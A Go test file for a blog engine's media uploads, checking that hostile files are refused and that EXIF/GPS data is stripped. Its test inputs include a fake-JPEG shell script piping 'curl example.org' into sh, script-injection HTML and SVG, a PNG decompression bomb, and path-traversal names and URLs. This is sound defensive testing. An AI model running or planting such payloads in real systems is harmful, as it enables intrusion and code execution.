package web

import (
	"bytes"
	"context"
	"encoding/binary"
	"encoding/json"
	"hash/crc32"
	"image"
	"image/color"
	"image/jpeg"
	"image/png"
	"io"
	"io/fs"
	"mime/multipart"
	"net/http"
	"net/http/httptest"
	"net/textproto"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"

	"octavo/internal/auth"
	"octavo/internal/blog"
)

// testMediaMaxBytes is the upload limit of the test blogs (1 MiB), so that
// "too large" costs little.
const testMediaMaxBytes = 1 << 20

// uploadAnswer is the JSON answer of an upload.
type uploadAnswer struct {
	Files []struct {
		Name, URL, Markdown string
		Width, Height       int
		Created             bool
	}
	Error string
}

// upload sends one file as a script would (the CSRF token in a header, a
// JSON answer) or, with asForm, as the library's form does.
func (c *client) upload(name string, data []byte, asForm bool) (*http.Response, string) {
	c.t.Helper()
	var body bytes.Buffer
	mw := multipart.NewWriter(&body)
	if asForm {
		mw.WriteField(auth.CSRFField, c.csrf)
	}
	h := textproto.MIMEHeader{}
	// Written by hand: CreateFormFile would escape the name, and a client
	// can send any name.
	h.Set("Content-Disposition", `form-data; name="file"; filename="`+name+`"`)
	h.Set("Content-Type", "image/jpeg") // whatever the file is: never believed
	pw, _ := mw.CreatePart(h)
	pw.Write(data)
	mw.Close()
	r := httptest.NewRequest("POST", "/admin/media", &body)
	r.RemoteAddr = c.addr
	r.Header.Set("Content-Type", mw.FormDataContentType())
	r.ContentLength = 10 // a lie: the size is counted, not read from here
	if !asForm {
		r.Header.Set(auth.CSRFHeader, c.csrf)
		r.Header.Set("Accept", "application/json")
	}
	for _, ck := range c.cookies {
		r.AddCookie(ck)
	}
	w := httptest.NewRecorder()
	c.b.handler.ServeHTTP(w, r)
	res := w.Result()
	page, _ := io.ReadAll(res.Body)
	return res, string(page)
}

func (c *client) uploadJSON(name string, data []byte) (int, uploadAnswer) {
	c.t.Helper()
	res, body := c.upload(name, data, false)
	var a uploadAnswer
	if err := json.Unmarshal([]byte(body), &a); err != nil {
		c.t.Fatalf("upload %s: %d, not JSON: %v\n%.300s", name, res.StatusCode, err, body)
	}
	return res.StatusCode, a
}

// testPNG is a PNG of w×h pixels, a gradient.
func testPNG(t *testing.T, w, h int) []byte {
	t.Helper()
	img := image.NewNRGBA(image.Rect(0, 0, w, h))
	for y := 0; y < h; y++ {
		for x := 0; x < w; x++ {
			img.Set(x, y, color.NRGBA{uint8(x * 255 / w), uint8(y * 255 / h), 128, 255})
		}
	}
	var b bytes.Buffer
	if err := png.Encode(&b, img); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// hugePNG is a valid PNG header that declares width×height pixels, with a
// correct checksum: a decompression bomb is refused by its declared size,
// before anything is decoded.
func hugePNG(t *testing.T, width, height uint32) []byte {
	b := testPNG(t, 1, 1)
	// IHDR data starts at 16: width, height; its CRC covers type and data.
	binary.BigEndian.PutUint32(b[16:], width)
	binary.BigEndian.PutUint32(b[20:], height)
	binary.BigEndian.PutUint32(b[29:], crc32.ChecksumIEEE(b[12:29]))
	return b
}

// exifJPEG is a 64×32 JPEG, red on the left half and blue on the right,
// with an EXIF segment that says "rotate 90° clockwise" (orientation 6)
// and holds GPS tags (a latitude and a map datum "SECRETPLACE").
func exifJPEG(t *testing.T) []byte {
	t.Helper()
	img := image.NewRGBA(image.Rect(0, 0, 64, 32))
	for y := 0; y < 32; y++ {
		for x := 0; x < 64; x++ {
			c := color.RGBA{220, 20, 20, 255}
			if x >= 32 {
				c = color.RGBA{20, 20, 220, 255}
			}
			img.Set(x, y, c)
		}
	}
	var enc bytes.Buffer
	if err := jpeg.Encode(&enc, img, &jpeg.Options{Quality: 95}); err != nil {
		t.Fatal(err)
	}
	be := binary.BigEndian
	var tiff []byte
	u16 := func(v uint16) { tiff = be.AppendUint16(tiff, v) }
	u32 := func(v uint32) { tiff = be.AppendUint32(tiff, v) }
	tiff = append(tiff, "MM"...)
	u16(42)
	u32(8)
	// IFD0 at 8: orientation, and where the GPS IFD is (38).
	u16(2)
	u16(0x0112)
	u16(3)
	u32(1)
	u16(6)
	u16(0)
	u16(0x8825)
	u16(4)
	u32(1)
	u32(38)
	u32(0)
	// GPS IFD at 38: latitude ref "N", latitude (3 rationals at 80), map
	// datum (12 bytes at 104).
	u16(3)
	u16(0x0001)
	u16(2)
	u32(2)
	tiff = append(tiff, 'N', 0, 0, 0)
	u16(0x0002)
	u16(5)
	u32(3)
	u32(80)
	u16(0x0012)
	u16(2)
	u32(12)
	u32(104)
	u32(0)
	for _, v := range []uint32{52, 1, 31, 1, 7, 1} {
		u32(v)
	}
	tiff = append(tiff, "SECRETPLACE\x00"...)
	if len(tiff) != 116 {
		t.Fatalf("EXIF block laid out wrong: %d bytes", len(tiff))
	}
	seg := append([]byte("Exif\x00\x00"), tiff...)
	app1 := []byte{0xFF, 0xE1}
	app1 = be.AppendUint16(app1, uint16(len(seg)+2))
	app1 = append(app1, seg...)
	src := enc.Bytes()
	out := append([]byte{}, src[:2]...) // SOI
	out = append(out, app1...)
	return append(out, src[2:]...)
}

// mediaFiles lists the files under the media folder.
func (b *adminBlog) mediaFiles(t *testing.T) []string {
	t.Helper()
	var files []string
	filepath.WalkDir(b.mediaDir, func(p string, d fs.DirEntry, err error) error {
		if err == nil && !d.IsDir() {
			files = append(files, filepath.Base(p))
		}
		return nil
	})
	return files
}

func (b *adminBlog) mediaRows(t *testing.T) []*blog.Media {
	t.Helper()
	ms, err := b.store.ListMedia(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	return ms
}

// TestMediaUploadRefusals sends files that must be refused: each gets its
// status and precise message, and nothing is stored, neither a file nor
// a row.
func TestMediaUploadRefusals(t *testing.T) {
	b := newAdminBlog(t)
	c := b.client(t)
	c.login("author-user", adminPassword)
	tooBig := append(testPNG(t, 4, 4), bytes.Repeat([]byte{0}, testMediaMaxBytes)...)
	for _, tc := range []struct {
		name   string
		file   string
		data   []byte
		status int
		want   string
	}{
		{"too large", "big.png", tooBig, 413, "big.png: the file is larger than the upload limit of 1 MB."},
		{"wrong type", "notes.pdf", []byte("%PDF-1.4\n1 0 obj\n<<>>\nendobj\n"), 415,
			"notes.pdf: not a JPEG, PNG, GIF or WebP image (its content is application/pdf, whatever its name says)."},
		{"script renamed .jpg", "holiday.jpg", []byte("#!/bin/sh\ncurl example.org | sh\n"), 415,
			"holiday.jpg: not a JPEG, PNG, GIF or WebP image (its content is text/plain, whatever its name says)."},
		{"HTML renamed .png", "page.png", []byte("<!DOCTYPE html><script>alert(1)</script>"), 415,
			"page.png: not a JPEG, PNG, GIF or WebP image (its content is text/html, whatever its name says)."},
		{"SVG", "logo.svg", []byte(`<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>`), 415,
			"logo.svg: SVG images are not accepted: an SVG file can hold scripts that would run on this site. Convert it to PNG first."},
		{"PNG with a huge declared size", "bomb.png", hugePNG(t, 100000, 100000), 400,
			"bomb.png: the image is 100000×100000 pixels, more than the limit of 50 megapixels."},
		{"damaged PNG", "cut.png", testPNG(t, 40, 40)[:60], 400, "cut.png: the PNG image is damaged or uses a feature that cannot be read."},
		{"path traversal name", "../../etc/cron.d/evil.png", testPNG(t, 4, 4), 400,
			`The file name "../../etc/cron.d/evil.png" is a path: a file name must not contain "/" or "\".`},
		{"Windows path name", `..\..\evil.png`, testPNG(t, 4, 4), 400,
			`The file name "..\\..\\evil.png" is a path: a file name must not contain "/" or "\".`},
		{"empty file", "empty.png", nil, 400, "empty.png: the file is empty."},
	} {
		t.Run(tc.name, func(t *testing.T) {
			status, a := c.uploadJSON(tc.file, tc.data)
			if status != tc.status || a.Error != tc.want {
				t.Errorf("got %d %q\nwant %d %q", status, a.Error, tc.status, tc.want)
			}
			if files := b.mediaFiles(t); len(files) > 0 {
				t.Errorf("files stored: %v", files)
			}
			if rows := b.mediaRows(t); len(rows) > 0 {
				t.Errorf("rows stored: %v", rows)
			}
		})
	}
	// Without JavaScript, the refusal is the library page with the message.
	editor := b.client(t)
	editor.login("editor-user", adminPassword)
	editor.get("/admin/media")
	res, page := editor.upload("holiday.jpg", []byte("#!/bin/sh\n"), true)
	if res.StatusCode != 415 || !strings.Contains(page, "holiday.jpg: not a JPEG, PNG, GIF or WebP image") || !strings.Contains(page, `type="file"`) {
		t.Errorf("form upload refused: %d\n%.500s", res.StatusCode, page)
	}
	// A form larger than the CSRF check reads (64 MiB) is a 413 too.
	res, page = editor.upload("huge.png", make([]byte, 64<<20), true)
	if res.StatusCode != 413 || !strings.Contains(page, "The form is larger than 64 MB, the most a form may send, so nothing was changed.") {
		t.Errorf("a form over 64 MiB: %d\n%.500s", res.StatusCode, page)
	}
	if files := b.mediaFiles(t); len(files) > 0 {
		t.Errorf("files stored: %v", files)
	}
}

// TestMediaEXIFStripped uploads a photo with an orientation and GPS tags:
// the served bytes hold no EXIF at all, and the photo is turned upright.
func TestMediaEXIFStripped(t *testing.T) {
	b := newAdminBlog(t)
	c := b.client(t)
	c.login("contributor-user", adminPassword)
	photo := exifJPEG(t)
	if !bytes.Contains(photo, []byte("SECRETPLACE")) {
		t.Fatal("the test photo has no GPS tag")
	}
	status, a := c.uploadJSON("photo.jpg", photo)
	if status != 200 || len(a.Files) != 1 {
		t.Fatalf("upload: %d %+v", status, a)
	}
	f := a.Files[0]
	if !f.Created || f.Width != 32 || f.Height != 64 || !strings.HasSuffix(f.URL, ".jpg") || f.Markdown != "![photo]("+f.URL+")" {
		t.Errorf("answer: %+v", f)
	}
	res, body := c.get(f.URL)
	if res.StatusCode != 200 || res.Header.Get("Content-Type") != "image/jpeg" ||
		res.Header.Get("Cache-Control") != "public, max-age=31536000, immutable" || res.Header.Get("X-Content-Type-Options") != "nosniff" {
		t.Fatalf("GET %s: %d %v", f.URL, res.StatusCode, res.Header)
	}
	for _, gone := range []string{"Exif", "SECRETPLACE", "MM\x00*"} {
		if strings.Contains(body, gone) {
			t.Errorf("served bytes still hold %q", gone)
		}
	}
	img, err := jpeg.Decode(strings.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	if bd := img.Bounds(); bd.Dx() != 32 || bd.Dy() != 64 {
		t.Fatalf("served %v, want 32×64 (turned upright)", bd)
	}
	// Rotated clockwise, the red left half is now on top.
	top, bottom := img.At(16, 8), img.At(16, 56)
	if r, _, bl, _ := top.RGBA(); r>>8 < 150 || bl>>8 > 100 {
		t.Errorf("top is %v, want red", top)
	}
	if r, _, bl, _ := bottom.RGBA(); bl>>8 < 150 || r>>8 > 100 {
		t.Errorf("bottom is %v, want blue", bottom)
	}
}

// TestMediaVariantsAndServing checks the smaller copies (right widths,
// never larger than the file), what is served before they exist, the
// reuse of a second upload of the same bytes and the names that are
// never served.
func TestMediaVariantsAndServing(t *testing.T) {
	b := newAdminBlog(t)
	c := b.client(t)
	c.login("editor-user", adminPassword)
	ctx := context.Background()

	status, wide := c.uploadJSON("wide.png", testPNG(t, 2000, 1000))
	if status != 200 {
		t.Fatalf("upload: %d %+v", status, wide)
	}
	name := wide.Files[0].Name
	hash := strings.TrimSuffix(name, ".png")
	// Before the background work: the file itself, not to be cached.
	res, body := c.get("/media/" + hash + "-480.png")
	if res.StatusCode != 200 || res.Header.Get("Cache-Control") != "no-store" || !strings.HasPrefix(body, "\x89PNG") {
		t.Errorf("a copy not made yet: %d %v", res.StatusCode, res.Header)
	}
	if err := b.media.MakeVariants(ctx, hash); err != nil {
		t.Fatal(err)
	}
	for _, w := range []int{480, 960, 1600} {
		res, body := c.get("/media/" + hash + "-" + strconv.Itoa(w) + ".png")
		if res.StatusCode != 200 || res.Header.Get("Cache-Control") != "public, max-age=31536000, immutable" {
			t.Fatalf("copy %d: %d %v", w, res.StatusCode, res.Header)
		}
		cfg, err := png.DecodeConfig(strings.NewReader(body))
		if err != nil || cfg.Width != w || cfg.Height != w/2 {
			t.Errorf("copy %d is %d×%d (%v), want %d×%d", w, cfg.Width, cfg.Height, err, w, w/2)
		}
	}

	_, narrow := c.uploadJSON("narrow.png", testPNG(t, 700, 300))
	nh := strings.TrimSuffix(narrow.Files[0].Name, ".png")
	if err := b.media.MakeVariants(ctx, nh); err != nil {
		t.Fatal(err)
	}
	m, err := b.store.MediaByHash(ctx, nh)
	if err != nil || len(m.Variants) != 1 || m.Variants[0].Width != 480 || m.Variants[0].Height != 206 {
		t.Errorf("a 700-pixel image has copies %+v (%v), want only 480×206", m.Variants, err)
	}
	if res, _ := c.get("/media/" + nh + "-960.png"); res.StatusCode != 404 {
		t.Errorf("a copy larger than the file: %d, want 404", res.StatusCode)
	}

	// The same bytes again: the same file, nothing new stored.
	before := len(b.mediaFiles(t))
	status, again := c.uploadJSON("wide-copy.png", testPNG(t, 2000, 1000))
	if status != 200 || again.Files[0].Name != name || again.Files[0].Created {
		t.Errorf("second upload: %d %+v", status, again)
	}
	if n := len(b.mediaFiles(t)); n != before || len(b.mediaRows(t)) != 2 {
		t.Errorf("files %d → %d, rows %d", before, n, len(b.mediaRows(t)))
	}

	// Only names of the exact hash form are served.
	for _, p := range []string{
		"/media/../octavo.db", "/media/..%2f..%2foctavo.db", "/media/%2e%2e/octavo.db", "/media/" + hash[:2] + "/" + name,
		"/media/" + strings.ToUpper(hash) + ".png", "/media/" + hash + ".PNG", "/media/" + hash + ".jpg",
		"/media/" + hash + "-0480.png", "/media/" + hash + "-481.png", "/media/" + hash + ".png.html",
		"/media/.upload-123", "/media/" + hash, "/media/",
	} {
		r := httptest.NewRequest("GET", "/", nil)
		r.URL.Path, r.URL.RawPath = p, ""
		if strings.Contains(p, "%") {
			r = httptest.NewRequest("GET", p, nil)
		}
		w := httptest.NewRecorder()
		b.handler.ServeHTTP(w, r)
		if w.Code == 200 {
			t.Errorf("GET %s: 200, want no file", p)
		}
	}
}

// TestMediaInPosts checks what a post shows of the library's images
// (srcset, width, height, loading), where each file is used, and that a
// file in use is deleted only once confirmed.
func TestMediaInPosts(t *testing.T) {
	b := newAdminBlog(t)
	c := b.client(t)
	c.login("editor-user", adminPassword)
	_, up := c.uploadJSON("chart.png", testPNG(t, 2000, 1000))
	f := up.Files[0]
	hash := strings.TrimSuffix(f.Name, ".png")
	p := b.save("post", &blog.Post{Title: "With a chart", Status: blog.StatusPublished, PublishedAt: testNow.Add(-1e9),
		Body: "Look:\n\n![A rising chart](" + f.URL + ")\n\nAgain:\n\n![The same chart](" + f.URL + ")\n\n![Elsewhere](https://example.org/x.png)"})
	_, page := c.get(p.Path)
	wantFirst := `<img src="` + f.URL + `" alt="A rising chart" srcset="/media/` + hash + `-480.png 480w, /media/` + hash + `-960.png 960w, /media/` + hash +
		`-1600.png 1600w, ` + f.URL + ` 2000w" sizes="` + blog.ImageSizes + `" width="2000" height="1000" loading="eager" decoding="async">`
	if !strings.Contains(page, wantFirst) {
		t.Errorf("first image: want\n%s\nin\n%s", wantFirst, page)
	}
	if !strings.Contains(page, `alt="The same chart" srcset=`) || !strings.Contains(page, `height="1000" loading="lazy" decoding="async">`) {
		t.Errorf("second image is not lazy with srcset")
	}
	if !strings.Contains(page, `<img src="https://example.org/x.png" alt="Elsewhere">`) {
		t.Errorf("an image outside the library changed")
	}

	// A featured image: in the post's header, its OpenGraph, Twitter
	// card and JSON-LD metadata, and its feed entries.
	_, up2 := c.uploadJSON("cover.png", testPNG(t, 800, 400))
	cover := up2.Files[0]
	fp := b.save("featured", &blog.Post{Title: "With a cover", Status: blog.StatusPublished, PublishedAt: testNow.Add(-2e9),
		Body: "Text.", Featured: &blog.Image{Hash: strings.TrimSuffix(cover.Name, ".png")}})
	_, page = c.get(fp.Path)
	abs := "http://example.test" + cover.URL
	for _, want := range []string{
		`<img class="featured u-featured" src="` + cover.URL + `" srcset="` + strings.TrimSuffix(cover.URL, ".png") + `-480.png 480w, ` + cover.URL + ` 800w" sizes="` + blog.ImageSizes + `" width="800" height="400" alt="" decoding="async">`,
		`<meta property="og:image" content="` + abs + `">`, `<meta property="og:image:width" content="800">`, `<meta property="og:image:height" content="400">`,
		`<meta name="twitter:card" content="summary_large_image">`, `"image":"` + abs + `"`,
	} {
		if !strings.Contains(page, want) {
			t.Errorf("featured image: no %s in\n%s", want, page)
		}
	}
	for feed, want := range map[string]string{
		"/feed.xml":  `<enclosure url="` + abs + `" length="0" type="image/png"/>`,
		"/atom.xml":  `<link rel="enclosure" type="image/png" href="` + abs + `"/>`,
		"/feed.json": `"image": "` + abs + `"`,
	} {
		if _, body := c.get(feed); !strings.Contains(body, want) {
			t.Errorf("%s: no %s in\n%.2000s", feed, want, body)
		}
	}

	// The library says where the file is used.
	_, lib := c.get("/admin/media")
	if !strings.Contains(lib, `<a href="`+p.Path+`">With a chart</a>`) || !strings.Contains(lib, "2000×1000 pixels") {
		t.Errorf("library page:\n%s", lib)
	}
	// Deleting it is refused while in use: a page lists the post.
	res, confirm := c.post("/admin/media/"+hash+"/delete", nil)
	if res.StatusCode != http.StatusOK || !strings.Contains(confirm, "With a chart") || !strings.Contains(confirm, `name="confirm" value="yes"`) {
		t.Errorf("delete in use: %d\n%s", res.StatusCode, confirm)
	}
	filesBefore := len(b.mediaFiles(t))
	if len(b.mediaRows(t)) != 2 {
		t.Fatalf("refused delete removed something")
	}
	// A contributor may upload but not delete.
	contrib := b.client(t)
	contrib.login("contributor-user", adminPassword)
	if res, _ := contrib.post("/admin/media/"+hash+"/delete", map[string][]string{"confirm": {"yes"}}); res.StatusCode != 403 {
		t.Errorf("contributor delete: %d", res.StatusCode)
	}
	res, _ = c.post("/admin/media/"+hash+"/delete", map[string][]string{"confirm": {"yes"}})
	if res.StatusCode != http.StatusSeeOther || res.Header.Get("Location") != "/admin/media?done=media-deleted" {
		t.Errorf("confirmed delete: %d %s", res.StatusCode, res.Header.Get("Location"))
	}
	if files := b.mediaFiles(t); len(files) != filesBefore-1 || len(b.mediaRows(t)) != 1 || slices.Contains(files, f.Name) {
		t.Errorf("after delete: files %v", files)
	}
	// The post is rendered again: its images are plain now.
	_, page = c.get(p.Path)
	if strings.Contains(page, "srcset") {
		t.Errorf("the post still has srcset after the file was deleted")
	}
	if _, err := os.Stat(b.mediaDir); err != nil {
		t.Fatal(err)
	}
}

// TestMediaUploadForm uploads through the library's form (no JavaScript):
// a redirect to the library, which lists the file.
func TestMediaUploadForm(t *testing.T) {
	b := newAdminBlog(t)
	c := b.client(t)
	c.login("owner-user", adminPassword)
	c.get("/admin/media")
	res, _ := c.upload("sunset.png", testPNG(t, 300, 200), true)
	if res.StatusCode != http.StatusSeeOther || res.Header.Get("Location") != "/admin/media?done=uploaded" {
		t.Fatalf("form upload: %d %s", res.StatusCode, res.Header.Get("Location"))
	}
	_, page := c.get("/admin/media?done=uploaded")
	if !strings.Contains(page, "The file is uploaded.") || !strings.Contains(page, "sunset.png") || !strings.Contains(page, "300×200 pixels") {
		t.Errorf("library after upload:\n%s", page)
	}
	// A contributor (no library) is shown the Markdown to copy.
	contrib := b.client(t)
	contrib.login("contributor-user", adminPassword)
	res, page = contrib.upload("other.png", testPNG(t, 30, 20), true)
	if res.StatusCode != 200 || !strings.Contains(page, "![other](/media/") {
		t.Errorf("contributor form upload: %d\n%s", res.StatusCode, page)
	}
}

// TestMediaUploadTempFiles checks that a form upload leaves no temporary
// file behind, accepted or not: the part of a form over 8 MiB is spooled
// to disk by the CSRF check, which parses the form.
func TestMediaUploadTempFiles(t *testing.T) {
	tmp := t.TempDir()
	t.Setenv("TMPDIR", tmp)
	b := newAdminBlog(t)
	c := b.client(t)
	c.login("editor-user", adminPassword)
	c.get("/admin/media")
	res, _ := c.upload("large.png", append(testPNG(t, 4, 4), make([]byte, 9<<20)...), true)
	if res.StatusCode != http.StatusRequestEntityTooLarge {
		t.Errorf("upload: %d", res.StatusCode)
	}
	if left, _ := os.ReadDir(tmp); len(left) > 0 {
		t.Errorf("temporary files left: %v", left)
	}
	// Nor does a form the CSRF check refuses after reading it.
	c.csrf = "not-the-token"
	res, _ = c.upload("large.png", make([]byte, 9<<20), true)
	if res.StatusCode != http.StatusForbidden {
		t.Errorf("upload with a wrong token: %d", res.StatusCode)
	}
	if left, _ := os.ReadDir(tmp); len(left) > 0 {
		t.Errorf("temporary files left after a refused form: %v", left)
	}
}
